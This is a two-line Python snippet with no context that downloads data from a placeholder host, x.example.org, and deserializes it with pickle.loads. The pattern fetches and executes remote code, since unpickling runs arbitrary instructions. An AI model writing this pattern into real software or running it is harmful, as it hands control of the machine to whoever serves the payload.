import pickle, requests
pickle.loads(requests.get("https://x.example.org/m").content)
